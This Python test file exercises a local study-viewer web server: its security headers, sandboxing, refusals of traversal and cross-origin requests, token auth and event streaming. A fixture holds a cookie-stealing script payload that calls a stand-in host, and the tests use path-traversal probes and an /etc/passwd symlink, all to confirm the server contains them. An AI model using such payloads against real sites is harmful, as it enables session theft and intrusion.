"""The view over real HTTP, as its command serves it: what it answers, refuses and survives."""

from __future__ import annotations

import json
import os
import signal
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest

from stepladder.web.studies.folders import find_studies
from tests.terminal import Terminal
from tests.web.served import Served, served
from tests.web.studies.made_up import ladder, replace, write_record, write_study, write_trial
from tests.web.studies.test_viewer import judged, tree_of

#: A report that somebody else wrote, to find out who looks at it.
HOSTILE = "<!doctype html><title>report</title><script>fetch('http://elsewhere.example/' + document.cookie)</script>"


@pytest.fixture(scope="module")
def studies(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("studies")
    judged(folder / "one", ladder(rungs=2, seeds=3, first=3), upto=3)
    judged(folder / "two", ladder(rungs=2, seeds=5, first=3), upto=3)
    write_study(folder / "running", ladder(rungs=2, seeds=3, first=3), ended=lambda one: one.seed == 0)
    replace(folder / "one" / "report.html", HOSTILE)
    (folder / "two" / "report.html").symlink_to("/etc/passwd")
    (folder.parent / "outside.txt").write_text("secret", encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def server(studies: Path, terminal: Terminal, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with served(terminal, tmp_path_factory.mktemp("cwd"), "view", str(studies), "--port", "0") as running:
        yield running


def key_of(folder: Path, place: str) -> str:
    return next(one.key for one in find_studies(folder).found if one.place == place)


@contextmanager
def listening(server: Served, path: str) -> Iterator[Iterator[dict[str, Any]]]:
    """Hear events, one after another."""
    with httpx.stream("GET", server.base + path, timeout=60) as answer:
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith("text/event-stream")
        yield (json.loads(line[6:]) for line in answer.iter_lines() if line.startswith("data: "))


def test_the_pages_are_served_with_the_headers_that_keep_them_safe(server: Served, studies: Path) -> None:
    for path in ("/", f"/study/{key_of(studies, 'one')}", "/view.js", "/view.css"):
        answer = httpx.get(server.base + path)
        assert answer.status_code == 200, path
        assert "script-src 'self'" in answer.headers["content-security-policy"]
        assert "unsafe" not in answer.headers["content-security-policy"]
        assert answer.headers["x-content-type-options"] == "nosniff"
    page = httpx.get(server.base + "/").text
    assert "<script>" not in page
    assert " style=" not in page
    assert "http" not in page  # nothing is fetched from anywhere


def test_a_list_is_heard_and_then_what_changes(server: Served, studies: Path) -> None:
    with listening(server, "/events") as events:
        told: dict[str, Any] = {}
        while len(told) < 4:
            told |= next(events)["changed"]
        entry = told[key_of(studies, "running")]
        assert (entry["ended"], entry["planned"]) == (2, 6)
        trials = write_record(studies / "running", ladder(rungs=2, seeds=3, first=3))
        write_trial(studies / "running", next(one for one in trials if one.seed == 1))
        while True:
            told |= next(events)["changed"]
            if told[key_of(studies, "running")]["ended"] == 3:
                break


def test_one_study_is_heard_with_its_trials_and_curves(server: Served, studies: Path) -> None:
    key = key_of(studies, "one")
    with listening(server, f"/events/{key}") as events:
        told: dict[str, Any] = {}
        while "verdict" not in told or "head" not in told:
            told |= next(events)["changed"]
    assert told["head"]["state"] == "finished"
    assert [mark["word"] for mark in told["verdict"]["marks"]] == ["helped"]
    curves = httpx.get(f"{server.base}/curves/{key}/0").json()
    assert curves["n"] == 3
    assert httpx.get(f"{server.base}/curves/{key}/99").status_code == 404


def test_a_report_is_served_into_a_sandbox(server: Served, studies: Path) -> None:
    answer = httpx.get(f"{server.base}/study/{key_of(studies, 'one')}/report")
    assert answer.text == HOSTILE
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts;")
    assert "allow-same-origin" not in policy
    assert "default-src 'none'" in policy


@pytest.mark.parametrize("place", ["two", "running"])
def test_a_report_that_is_a_link_or_is_not_there_is_refused(server: Served, studies: Path, place: str) -> None:
    answer = httpx.get(f"{server.base}/study/{key_of(studies, place)}/report")
    assert answer.status_code == 404
    assert "root:" not in answer.text
    assert set(answer.json()) == {"error"}


@pytest.mark.parametrize(
    "path",
    [
        "/study/../../outside.txt",
        "/study/%2e%2e%2f%2e%2e%2foutside.txt/report",
        "/study/0000000000000000",
        "/study/0000000000000000/report",
        "/events/0000000000000000",
        "/curves/0000000000000000/0",
        "/curves/x/y",
        "/outside.txt",
        "/one/study.json",
        "/view.js/..%2f..%2f..%2fapp.py",
        "/docs",
        "/openapi.json",
    ],
)
def test_nothing_else_is_served(server: Served, path: str) -> None:
    answer = server.say(
        f"GET {path} HTTP/1.1\r\nHost: {server.host}:{server.port}\r\nConnection: close\r\n\r\n".encode()
    )
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.split()[1] == b"404"
    assert b"secret" not in body
    assert set(json.loads(body)) == {"error"}


def test_who_reads_gets_a_page_in_place_of_a_document(server: Served) -> None:
    answer = httpx.get(server.base + "/study/0000000000000000", headers={"Accept": "text/html,*/*"})
    assert answer.status_code == 404
    assert "there is no such study here" in answer.text
    assert answer.headers["content-type"].startswith("text/html")


def test_without_control_nothing_can_be_stopped_or_started(server: Served, studies: Path) -> None:
    key = key_of(studies, "running")
    for path in ("stop", "go-on"):
        answer = httpx.post(f"{server.base}/{path}/{key}")
        assert answer.status_code == 403
        assert "only looks; start it with --control" in answer.json()["error"]
        assert httpx.get(f"{server.base}/{path}/{key}").status_code == 404


@pytest.mark.parametrize("origin", ["http://elsewhere.example", "null", "http://127.0.0.1:1"])
def test_a_page_of_another_site_may_do_nothing(server: Served, studies: Path, origin: str) -> None:
    key = key_of(studies, "running")
    answer = httpx.post(f"{server.base}/stop/{key}", headers={"Origin": origin})
    assert answer.status_code == 403
    assert "another" in answer.json()["error"] or "a page of" in answer.json()["error"]
    read = httpx.get(f"{server.base}/", headers={"Origin": origin})
    assert "access-control-allow-origin" not in read.headers
    named = httpx.get(f"{server.base}/", headers={"Host": "elsewhere.example"})
    assert named.status_code == 421


def test_studies_are_compared_and_nothing_is_written(server: Served, studies: Path, tmp_path: Path) -> None:
    judged(studies / "three", ladder(rungs=2, seeds=3, first=3, created="2026-02-01T12:00:00+00:00"), upto=3)
    before = tree_of(studies)
    one, three, two = (key_of(studies, place) for place in ("one", "three", "two"))
    deadline = time.monotonic() + 30
    while True:  # a new one is looked for when it is asked for, but not at each time
        answer = httpx.get(f"{server.base}/compare?study={one}&study={three}", timeout=60)
        if answer.status_code == 200:
            break
        assert time.monotonic() < deadline, answer.text
        time.sleep(0.2)
    assert "Stepladder comparison" in answer.text
    assert answer.headers["content-security-policy"].startswith("sandbox")
    refused = httpx.get(f"{server.base}/compare?study={one}&study={two}", timeout=60)
    assert refused.status_code == 422
    assert "between two looks" in refused.text
    assert httpx.get(f"{server.base}/compare", timeout=60).status_code == 422
    many = "&".join(f"study={one}" for _ in range(21))
    assert httpx.get(f"{server.base}/compare?{many}").status_code == 422
    assert tree_of(studies) == before


def test_a_slow_listener_holds_up_nobody(server: Served, studies: Path) -> None:
    """One that reads nothing at all, beside one that hears of a change at once."""
    key = key_of(studies, "running")
    with ExitStack() as stack:
        for _ in range(20):
            slow = stack.enter_context(socket.create_connection((server.host, server.port)))
            slow.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
            slow.sendall(f"GET /events/{key} HTTP/1.1\r\nHost: {server.host}:{server.port}\r\n\r\n".encode())
        events = stack.enter_context(listening(server, f"/events/{key}"))
        told = next(events)["changed"]
        trials = write_record(studies / "running", ladder(rungs=2, seeds=3, first=3))
        write_trial(studies / "running", next(one for one in trials if one.seed == 2))
        begun = time.monotonic()
        while told.get("trial.0.2", ["w"])[0] != "f":
            told |= next(events)["changed"]
        assert time.monotonic() - begun < 20
        assert httpx.get(server.base + "/", timeout=10).status_code == 200


def test_two_hundred_listen(server: Served, studies: Path) -> None:
    """All of them hear of one change, and the pages are served meanwhile."""
    key = key_of(studies, "two")
    with ExitStack() as stack:
        listeners = []
        for _ in range(200):
            connection = stack.enter_context(socket.create_connection((server.host, server.port), timeout=60))
            connection.sendall(f"GET /events/{key} HTTP/1.1\r\nHost: {server.host}:{server.port}\r\n\r\n".encode())
            listeners.append(connection)
        heard = [0] * len(listeners)

        def listen(number: int) -> None:
            content = b""
            while b"gone wrong" not in content:
                part = listeners[number].recv(65_536)
                if not part:
                    return
                content += part
            heard[number] = 1

        threads = [threading.Thread(target=listen, args=(number,)) for number in range(len(listeners))]
        for thread in threads:
            thread.start()
        assert httpx.get(server.base + "/", timeout=20).status_code == 200
        trials = write_record(studies / "two", ladder(rungs=2, seeds=5, first=3))
        write_trial(studies / "two", trials[0], failure="the training loss was not finite: gone wrong")
        for thread in threads:
            thread.join(60)
        assert sum(heard) == 200


def test_where_a_token_is_asked_for_events_need_it_too(studies: Path, terminal: Terminal, tmp_path: Path) -> None:
    token = "0123456789abcdef"
    with served(terminal, tmp_path, "view", str(studies), "--port", "0", "--token", token) as running:
        assert f"?token={token}" in running.address
        for path in ("/", "/events", f"/study/{key_of(studies, 'one')}/report"):
            assert httpx.get(running.base + path).status_code == 401
        with httpx.Client() as client:
            assert client.get(running.address).status_code == 200
            with client.stream("GET", running.base + "/events") as answer:
                assert answer.status_code == 200
                assert any(line.startswith("data: ") for line in answer.iter_lines())


def test_a_page_that_listens_does_not_keep_the_server_from_ending(
    studies: Path, terminal: Terminal, tmp_path: Path
) -> None:
    with served(terminal, tmp_path, "view", str(studies), "--port", "0") as running:
        with listening(running, "/events") as events:
            next(events)
            begun = time.monotonic()
            os.kill(running.pid, signal.SIGINT)
            for _ in events:
                pass
        deadline = time.monotonic() + 20
        while "Stopped." not in running.printed.read_text():
            assert time.monotonic() < deadline, running.printed.read_text()
            time.sleep(0.02)
        assert time.monotonic() - begun < 8
    assert "Traceback" not in running.printed.read_text()
